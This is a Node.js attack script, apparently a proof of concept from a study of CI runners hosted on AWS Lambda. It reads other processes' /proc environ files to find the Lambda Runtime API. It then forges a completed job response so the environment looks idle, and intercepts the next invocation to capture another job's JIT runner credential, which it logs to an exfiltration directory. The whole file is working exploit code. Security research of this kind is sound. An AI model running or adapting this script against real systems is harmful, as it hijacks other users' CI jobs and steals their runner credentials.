// A hostile job squats on the Lambda Runtime API. It finds the API's address in the handler's
// environ, asks /next (and gets its own event again), posts a forged response so that Lambda
// takes the environment for idle, then waits on /next for the next runner event: another job's
// JIT config. Everything it is handed goes to $EXFIL/squat.jsonl. It stops after one stolen
// event, when $EXFIL/squat-stop appears, or after 45 s.
'use strict';
const fs = require('fs');
const path = require('path');

const exfil = process.env.EXFIL;
const log = (entry) =>
  fs.appendFileSync(
    path.join(exfil, 'squat.jsonl'),
    `${JSON.stringify({ ...entry, at: Date.now() })}\n`,
  );

function runtimeApi() {
  for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    try {
      const environ = fs.readFileSync(`/proc/${pid}/environ`, 'latin1').split('\0');
      const found = environ.find((entry) => entry.startsWith('AWS_LAMBDA_RUNTIME_API='));
      if (found) return found.slice('AWS_LAMBDA_RUNTIME_API='.length);
    } catch {
      // not ours to read
    }
  }
  return '127.0.0.1:9001';
}

async function next(api, signal) {
  const answer = await fetch(`http://${api}/2018-06-01/runtime/invocation/next`, { signal });
  return {
    requestId: answer.headers.get('lambda-runtime-aws-request-id'),
    event: await answer.json(),
  };
}

async function respond(api, requestId) {
  const answer = await fetch(`http://${api}/2018-06-01/runtime/invocation/${requestId}/response`, {
    method: 'POST',
    body: JSON.stringify({ outcome: 'completed', jobResult: 'Succeeded', forgedBy: 'squat' }),
  });
  return answer.status;
}

async function main() {
  const api = runtimeApi();
  const stop = new AbortController();
  const until = Date.now() + 45_000;
  const watch = setInterval(() => {
    if (fs.existsSync(path.join(exfil, 'squat-stop')) || Date.now() > until) stop.abort();
  }, 100);
  const own = await next(api, stop.signal);
  log({
    got: own.event.runnerName,
    requestId: own.requestId,
    jitConfig: own.event.credential?.jitConfig,
  });
  log({ responded: own.requestId, status: await respond(api, own.requestId) });
  try {
    log({ waiting: true });
    const stolen = await next(api, stop.signal);
    log({
      got: stolen.event.runnerName,
      requestId: stolen.requestId,
      jitConfig: stolen.event.credential?.jitConfig,
    });
    log({ responded: stolen.requestId, status: await respond(api, stolen.requestId) });
  } catch (error) {
    log({ stopped: error.name });
  }
  clearInterval(watch);
}

main().catch((error) => {
  log({ failed: error.message });
  process.exit(1);
});
